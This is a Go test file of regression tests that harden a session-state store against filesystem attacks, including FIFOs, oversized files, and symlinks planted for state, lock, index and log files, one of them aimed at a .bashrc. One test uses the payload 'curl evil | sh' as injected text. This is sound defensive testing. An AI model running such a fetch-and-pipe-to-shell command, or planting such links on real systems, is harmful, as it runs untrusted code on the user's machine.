package state

import (
	"bytes"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/superclaude/superclaude/proc"
	"github.com/superclaude/superclaude/testkit/reexec"
)

// Regression tests for issue 9's attacks on the sessions directory: each is
// named after the attack it pins.

// returnsWithin runs f and fails the test when it has not returned after
// d: the attacks below used to hang a reader forever. unblock, when not
// nil, is called on the way out to release a hung f.
func returnsWithin(t *testing.T, d time.Duration, what string, f func(), unblock func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { f(); close(done) }()
	select {
	case <-done:
	case <-time.After(d):
		if unblock != nil {
			unblock()
		}
		t.Fatalf("%s did not return within %v (hung)", what, d)
	}
}

// mkfifo makes a FIFO at path, and returns a function that releases a
// reader blocked on it (by opening and closing its write end).
func mkfifo(t *testing.T, path string) func() {
	t.Helper()
	if err := unix.Mkfifo(path, 0o600); err != nil {
		t.Fatal(err)
	}
	return func() {
		if fd, err := unix.Open(path, unix.O_WRONLY|unix.O_NONBLOCK, 0); err == nil {
			unix.Close(fd)
		}
	}
}

func TestAttackFIFOInPlaceOfStateFileHangsNothing(t *testing.T) {
	s := newStore(t)
	seed(t, s, "ok", `{"pid":0,"lifecycle":"active","startedAt":"2026-02-07T14:30:00Z","fleetPaneId":"p1"}`)
	os.MkdirAll(filepath.Join(s.Root, "trap"), 0o700)
	fifo := filepath.Join(s.Root, "trap", StateFile)
	release := mkfifo(t, fifo)
	var reported []error
	s.Report = func(err error) { reported = append(reported, err) }

	// Readers: +status and +session list/show (List, Load), +session
	// find and the supervisor's start (a lookup that rebuilds the index).
	var loadErr error
	returnsWithin(t, 20*time.Second, "Load", func() { _, loadErr = s.Load("trap") }, release)
	if !errors.Is(loadErr, ErrCorrupt) || !strings.Contains(loadErr.Error(), filepath.Join("trap", StateFile)) || !strings.Contains(loadErr.Error(), "FIFO") {
		t.Fatalf("Load of a FIFO: %v, want an error naming the file and saying it is a FIFO", loadErr)
	}
	var list []Session
	returnsWithin(t, 20*time.Second, "List", func() { list, _ = s.List() }, release)
	if len(list) != 1 || list[0].Name != "ok" {
		t.Fatalf("List = %+v", list)
	}
	returnsWithin(t, 20*time.Second, "Reindex", func() { s.Reindex() }, release)
	var found *Session
	returnsWithin(t, 20*time.Second, "FindByPane", func() { found, _ = s.FindByPane("p1") }, release)
	if found == nil || found.Name != "ok" {
		t.Fatalf("FindByPane beside a FIFO: %+v", found)
	}

	// A writer moves the FIFO aside (never deletes it) and says where.
	var uerr error
	returnsWithin(t, 20*time.Second, "Update", func() {
		_, uerr = s.Update("trap", "test", func(*State) error { return nil })
	}, release)
	var e *Error
	if !errors.As(uerr, &e) || e.KeptAs == "" {
		t.Fatalf("Update over a FIFO: %v, want *Error with KeptAs", uerr)
	}
	kept, _ := filepath.Glob(fifo + CorruptSuffix + "*")
	if len(kept) != 1 {
		t.Fatalf("kept: %v", kept)
	}
	if fi, err := os.Lstat(kept[0]); err != nil || fi.Mode()&fs.ModeNamedPipe == 0 {
		t.Fatalf("the FIFO was not kept aside as it was: %v %v", fi, err)
	}
	if _, err := s.Activate("trap", "x", Caller{}); err != nil {
		t.Fatalf("Activate after the FIFO was moved aside: %v", err)
	}
}

// bigState is a valid state file of about n bytes: a known shape with a
// large field superclaude does not know.
func bigState(n int) string {
	return `{"pid":0,"lifecycle":"active","startedAt":"2026-02-07T14:30:00Z","junk":"` + strings.Repeat("x", n) + `"}`
}

func TestAttackOversizedStateFileIsRefusedNamingTheLimit(t *testing.T) {
	s := newStore(t)
	body := bigState(MaxStateSize + 1)
	path := seed(t, s, "big", body)

	_, err := s.Load("big")
	if !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), filepath.Join("big", StateFile)) || !strings.Contains(err.Error(), "1 MiB") {
		t.Fatalf("Load of an oversized file: %v, want an error naming the file and the 1 MiB limit", err)
	}
	list, _ := s.List()
	if len(list) != 0 {
		t.Fatalf("List returned the oversized session: %+v", list)
	}

	// Update keeps it aside, byte for byte.
	_, err = s.Update("big", "test", func(*State) error { return nil })
	var e *Error
	if !errors.As(err, &e) || e.KeptAs == "" || !strings.Contains(err.Error(), "1 MiB") {
		t.Fatalf("Update of an oversized file: %v", err)
	}
	kept, _ := filepath.Glob(path + CorruptSuffix + "*")
	if len(kept) != 1 {
		t.Fatalf("kept: %v", kept)
	}
	if b, _ := os.ReadFile(kept[0]); string(b) != body {
		t.Fatal("the kept copy differs")
	}

	// Nor is a state grown past the limit ever written.
	if _, err := s.Activate("big", "x", Caller{}); err != nil {
		t.Fatal(err)
	}
	_, err = s.Set("big", []string{"junk=" + strings.Repeat("y", MaxStateSize)})
	if err == nil || !strings.Contains(err.Error(), "1 MiB") {
		t.Fatalf("writing an oversized state: %v", err)
	}
	if fi, _ := os.Stat(path); fi.Size() > MaxStateSize {
		t.Fatalf("an oversized state was written: %d bytes", fi.Size())
	}
}

// outside is a directory outside the sessions root, and a snapshot of
// what it holds, to check that nothing was written there.
type outside struct {
	t   *testing.T
	dir string
}

func newOutside(t *testing.T) outside {
	return outside{t, t.TempDir()}
}

func (o outside) untouched() {
	o.t.Helper()
	var got []string
	filepath.WalkDir(o.dir, func(p string, d fs.DirEntry, err error) error {
		if p != o.dir {
			got = append(got, strings.TrimPrefix(p, o.dir))
		}
		return nil
	})
	if len(got) != 0 {
		o.t.Fatalf("files were written outside the sessions root: %v", got)
	}
}

func TestAttackSymlinkedSessionDirWritesNothingOutside(t *testing.T) {
	s := newStore(t)
	out := newOutside(t)
	os.MkdirAll(s.Root, 0o700)
	if err := os.Symlink(out.dir, filepath.Join(s.Root, "x")); err != nil {
		t.Fatal(err)
	}
	for _, op := range []struct {
		name string
		f    func() error
	}{
		{"Update", func() error { _, err := s.Update("x", "test", func(*State) error { return nil }); return err }},
		{"Activate", func() error { _, err := s.Activate("x", "skill", Caller{Pane: "p"}); return err }},
		{"Load", func() error { _, err := s.Load("x"); return err }},
	} {
		err := op.f()
		if err == nil || !errors.Is(err, ErrUnsafePath) || !strings.Contains(err.Error(), "symbolic link") {
			t.Errorf("%s through a linked session directory: %v, want ErrUnsafePath", op.name, err)
		}
	}
	if s.Exists("x") {
		t.Error("Exists follows the link")
	}
	out.untouched()
	if fi, err := os.Lstat(filepath.Join(s.Root, "x")); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
		t.Fatalf("the link itself was changed: %v %v", fi, err)
	}
}

func TestAttackSymlinkedStateAndLockFilesAreNotFollowed(t *testing.T) {
	valid := `{"pid":0,"lifecycle":"active","startedAt":"2026-02-07T14:30:00Z"}`
	t.Run("state file", func(t *testing.T) {
		s := newStore(t)
		out := newOutside(t)
		target := filepath.Join(out.dir, "victim.json")
		os.WriteFile(target, []byte(valid), 0o600)
		os.MkdirAll(filepath.Join(s.Root, "s"), 0o700)
		link := filepath.Join(s.Root, "s", StateFile)
		os.Symlink(target, link)
		if _, err := s.Load("s"); !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), "symbolic link") {
			t.Fatalf("Load through a linked state file: %v", err)
		}
		_, err := s.Update("s", "test", func(st *State) error { st.Skill = "pwned"; return nil })
		var e *Error
		if !errors.As(err, &e) || e.KeptAs == "" {
			t.Fatalf("Update over a linked state file: %v", err)
		}
		if b, _ := os.ReadFile(target); string(b) != valid {
			t.Fatalf("the link's target was changed: %s", b)
		}
		kept, _ := filepath.Glob(link + CorruptSuffix + "*")
		if len(kept) != 1 {
			t.Fatalf("the link was not kept aside: %v", kept)
		}
		if dest, err := os.Readlink(kept[0]); err != nil || dest != target {
			t.Fatalf("the kept link: %q %v", dest, err)
		}
	})
	t.Run("lock file", func(t *testing.T) {
		s := newStore(t)
		out := newOutside(t)
		seed(t, s, "s", valid)
		os.Symlink(filepath.Join(out.dir, "created-by-lock"), filepath.Join(s.Root, "s", lockFile))
		_, err := s.Update("s", "test", func(*State) error { return nil })
		if !errors.Is(err, ErrUnsafePath) || !strings.Contains(err.Error(), lockFile) {
			t.Fatalf("Update with a linked lock file: %v", err)
		}
		out.untouched()
	})
}

func TestAttackSymlinkedIndexAndLeasesWriteNothingOutside(t *testing.T) {
	for _, link := range []string{indexDir, filepath.Join(indexDir, kindPane), filepath.Join(indexDir, kindLease)} {
		t.Run(link, func(t *testing.T) {
			s := newStore(t)
			out := newOutside(t)
			os.RemoveAll(filepath.Join(s.Root, link))
			os.MkdirAll(filepath.Dir(filepath.Join(s.Root, link)), 0o700)
			if err := os.Symlink(out.dir, filepath.Join(s.Root, link)); err != nil {
				t.Fatal(err)
			}
			s.Activate("a", "x", Caller{Pane: "p"})
			s.Reindex()
			s.FindByPane("p")
			me, _ := proc.Self()
			s.Lease("conv", me)
			out.untouched()
		})
	}
}

func TestAttackSymlinkedEventLogIsNeverAppendedTo(t *testing.T) {
	s := newStore(t)
	out := newOutside(t)
	bashrc := filepath.Join(out.dir, ".bashrc")
	const orig = "# my bashrc\n"
	os.WriteFile(bashrc, []byte(orig), 0o600)
	log := filepath.Join(s.Root, EventsFile)
	os.MkdirAll(s.Root, 0o700)
	if err := os.Symlink(bashrc, log); err != nil {
		t.Fatal(err)
	}
	// Readers refuse it, naming it.
	if _, err := s.Events(""); err == nil || !strings.Contains(err.Error(), EventsFile) {
		t.Fatalf("Events through a link: %v", err)
	}
	// The event text comes from the state: a phase of shell code.
	if _, err := s.Activate("a", "x", Caller{}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Phase("a", "\ncurl evil | sh\n"); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(bashrc); string(b) != orig {
		t.Fatalf("the link's target was appended to: %q", b)
	}
	// The link is kept aside, and the log goes on in a file of its own.
	kept, _ := filepath.Glob(log + CorruptSuffix + "*")
	if len(kept) != 1 {
		t.Fatalf("kept: %v", kept)
	}
	if dest, _ := os.Readlink(kept[0]); dest != bashrc {
		t.Fatalf("kept link points at %q", dest)
	}
	evs, err := s.Events("a")
	if err != nil || len(evs) != 2 {
		t.Fatalf("events after the link was moved aside: %+v, %v", evs, err)
	}
}

func TestAttackPartialEventLineDoesNotGlueOntoTheNext(t *testing.T) {
	s := newStore(t)
	if err := s.Append(Event{Session: "a", Kind: "first"}); err != nil {
		t.Fatal(err)
	}
	// A write cut short by a full disk: half a line, no newline.
	f, _ := os.OpenFile(filepath.Join(s.Root, EventsFile), os.O_WRONLY|os.O_APPEND, 0)
	f.WriteString(`{"time":"2026-02-07T14:30:00Z","session":"a","kind":"cut`)
	f.Close()
	if err := s.Append(Event{Session: "a", Kind: "after"}); err != nil {
		t.Fatal(err)
	}
	evs, err := s.Events("a")
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, ev := range evs {
		kinds = append(kinds, ev.Kind)
	}
	if strings.Join(kinds, ",") != "first,after" {
		t.Fatalf("events = %v, want first,after (the cut line skipped, the next one whole)", kinds)
	}
	b, _ := os.ReadFile(filepath.Join(s.Root, EventsFile))
	if !bytes.HasSuffix(b, []byte("}\n")) || bytes.Count(b, []byte("\n")) != 3 {
		t.Fatalf("log = %q", b)
	}
}

func TestAttackEventLogWithHugeLinesIsStillRead(t *testing.T) {
	s := newStore(t)
	f, _ := os.OpenFile(filepath.Join(s.Root, EventsFile), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o600)
	f.WriteString(strings.Repeat("z", 5<<20) + "\n")
	f.Close()
	if err := s.Append(Event{Session: "a", Kind: "after"}); err != nil {
		t.Fatal(err)
	}
	evs, err := s.Events("a")
	if err != nil || len(evs) != 1 || evs[0].Kind != "after" {
		t.Fatalf("Events past a 5 MiB line: %+v, %v", evs, err)
	}
}

// snapshot lists every path under root with its mode, to compare before and
// after a read.
func snapshot(t *testing.T, root string) string {
	t.Helper()
	var b strings.Builder
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil {
			fi, _ := d.Info()
			b.WriteString(p + " " + fi.Mode().String() + " " + fi.ModTime().String() + "\n")
		}
		return nil
	})
	return b.String()
}

func TestAttackReadersOfAReadOnlySessionsDirWriteNothing(t *testing.T) {
	root := filepath.Join(t.TempDir(), "sessions")
	os.MkdirAll(filepath.Join(root, "s"), 0o700)
	os.WriteFile(filepath.Join(root, "s", StateFile), []byte(`{"pid":0,"lifecycle":"active","startedAt":"2026-02-07T14:30:00Z"}`), 0o600)
	before := snapshot(t, root)
	s, err := OpenExisting(root)
	if err != nil {
		t.Fatal(err)
	}
	if list, err := s.List(); err != nil || len(list) != 1 {
		t.Fatalf("List: %v %v", list, err)
	}
	if _, err := s.Events(""); err != nil {
		t.Fatal(err)
	}
	if after := snapshot(t, root); after != before {
		t.Fatalf("reading the store wrote to it:\nbefore:\n%s\nafter:\n%s", before, after)
	}
}

// A read-only sessions directory for real: root ignores permissions, so the
// reader runs as another user (nobody) in a helper process.
func TestAttackReadOnlySessionsDirCanBeListed(t *testing.T) {
	root := filepath.Join(t.TempDir(), "sessions")
	os.MkdirAll(filepath.Join(root, "s"), 0o700)
	os.WriteFile(filepath.Join(root, "s", StateFile), []byte(`{"pid":0,"lifecycle":"active","startedAt":"2026-02-07T14:30:00Z"}`), 0o600)
	cmd := reexec.Command("list", "", []string{"STATE_TEST_DIR=" + root})
	if os.Getuid() == 0 {
		// Give nobody read access to the files and the test binary,
		// and no write access anywhere.
		bin := filepath.Join(t.TempDir(), "state.test")
		b, err := os.ReadFile(os.Args[0])
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(bin, b, 0o755)
		// Open the test's own directories to nobody, up to the
		// machine's temporary directory and never that itself: this
		// loop once went on to "/" and left /tmp 0755 (it is 1777).
		for d := filepath.Dir(bin); d != filepath.Clean(os.TempDir()) && d != "/"; d = filepath.Dir(d) {
			os.Chmod(d, 0o755)
		}
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if d.IsDir() {
				return os.Chmod(p, 0o555)
			}
			return os.Chmod(p, 0o444)
		})
		t.Cleanup(func() { os.Chmod(root, 0o700); os.Chmod(filepath.Join(root, "s"), 0o700) })
		cmd.Path, cmd.Args[0] = bin, bin
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	} else {
		os.Chmod(filepath.Join(root, "s"), 0o500)
		os.Chmod(root, 0o500)
		t.Cleanup(func() { os.Chmod(root, 0o700); os.Chmod(filepath.Join(root, "s"), 0o700) })
	}
	out, err := cmd.CombinedOutput()
	if err != nil || strings.TrimSpace(string(out)) != "s" {
		t.Fatalf("listing a read-only sessions directory: %v\n%s", err, out)
	}
}

// listHelper lists the sessions of STATE_TEST_DIR and their events, as
// +status does, printing the names.
func listHelper() {
	s, err := OpenExisting(os.Getenv("STATE_TEST_DIR"))
	if err != nil {
		os.Stdout.WriteString("open: " + err.Error() + "\n")
		os.Exit(1)
	}
	list, err := s.List()
	if err != nil {
		os.Stdout.WriteString("list: " + err.Error() + "\n")
		os.Exit(1)
	}
	if _, err := s.Events(""); err != nil {
		os.Stdout.WriteString("events: " + err.Error() + "\n")
		os.Exit(1)
	}
	for _, sess := range list {
		os.Stdout.WriteString(sess.Name + "\n")
	}
}

// Found while fixing the above: rotating the event log took the index lock,
// and an Update that moves a pane records its transitions while it holds
// that lock. flock(2) locks taken twice by one process wait for each other,
// so the first activation after the log reached its size hung for ever,
// holding the index lock every other superclaude then waited for.
func TestEventLogRotationDuringAPaneMoveDoesNotDeadlock(t *testing.T) {
	s := newStore(t)
	old := MaxEventsSize
	MaxEventsSize = 100
	defer func() { MaxEventsSize = old }()
	s.Append(Event{Session: "a", Kind: "filler", Reason: strings.Repeat("x", 200)})
	var err error
	returnsWithin(t, 30*time.Second, "Activate with a full event log", func() {
		_, err = s.Activate("a", "x", Caller{Pane: "p"})
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
}

// +log appends the agent's text to a file in the session directory: a link
// planted there must not carry it elsewhere.
func TestAttackSymlinkedSessionLogIsNotAppendedTo(t *testing.T) {
	s := newStore(t)
	out := newOutside(t)
	if _, err := s.Activate("a", "x", Caller{}); err != nil {
		t.Fatal(err)
	}
	target := filepath.Join(out.dir, "victim")
	os.WriteFile(target, []byte("orig\n"), 0o600)
	log := filepath.Join(s.Root, "a", "X_LOG.md")
	os.Symlink(target, log)
	if err := s.AppendFile(log, []byte("\n## entry\n")); !errors.Is(err, ErrUnsafePath) {
		t.Fatalf("AppendFile through a link: %v", err)
	}
	if b, _ := os.ReadFile(target); string(b) != "orig\n" {
		t.Fatalf("the link's target was appended to: %q", b)
	}
	// A regular file in the session works; a file outside it is refused
	// (issue 21, attack 7: a shipped targetFile of ~/.bashrc).
	mine := filepath.Join(s.Root, "a", "MINE_LOG.md")
	if err := s.AppendFile(mine, []byte("one\n")); err != nil {
		t.Fatal(err)
	}
	if err := s.AppendFile(target, []byte("two\n")); err == nil {
		t.Fatal("AppendFile outside the session directory was let through")
	}
	if b, _ := os.ReadFile(mine); string(b) != "one\n" {
		t.Fatalf("log = %q", b)
	}
}

// The supervisor writes the dehydrated context into the session directory:
// no link on the way may carry it elsewhere, and a link in the file's place
// is replaced, not written through.
func TestAttackWriteFileInASessionFollowsNoLink(t *testing.T) {
	s := newStore(t)
	out := newOutside(t)
	if _, err := s.Activate("a", "x", Caller{}); err != nil {
		t.Fatal(err)
	}
	os.Symlink(out.dir, filepath.Join(s.Root, "linked"))
	if err := s.WriteFile(filepath.Join(s.Root, "linked", "DEHYDRATED_CONTEXT.md"), []byte("ctx")); !errors.Is(err, ErrUnsafePath) {
		t.Fatalf("WriteFile through a linked directory: %v", err)
	}
	victim := filepath.Join(out.dir, "victim")
	os.WriteFile(victim, []byte("orig"), 0o600)
	file := filepath.Join(s.Root, "a", "DEHYDRATED_CONTEXT.md")
	os.Symlink(victim, file)
	if err := s.WriteFile(file, []byte("ctx")); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(victim); string(b) != "orig" {
		t.Fatalf("written through the link: %q", b)
	}
	if fi, err := os.Lstat(file); err != nil || !fi.Mode().IsRegular() || fi.Mode().Perm() != 0o600 {
		t.Fatalf("the file: %v %v", fi, err)
	}
	if b, _ := os.ReadFile(file); string(b) != "ctx" {
		t.Fatalf("content %q", b)
	}
	if err := s.WriteFile(filepath.Join(t.TempDir(), "x"), []byte("ctx")); err == nil {
		t.Fatal("WriteFile outside the root succeeded")
	}
	out.untouched2(victim)
}

// untouched2 is untouched, allowing the listed files of the test's own.
func (o outside) untouched2(allowed ...string) {
	o.t.Helper()
	ok := map[string]bool{}
	for _, a := range allowed {
		ok[a] = true
	}
	filepath.WalkDir(o.dir, func(p string, d fs.DirEntry, err error) error {
		if p != o.dir && !ok[p] {
			o.t.Errorf("written outside the sessions root: %s", p)
		}
		return nil
	})
}
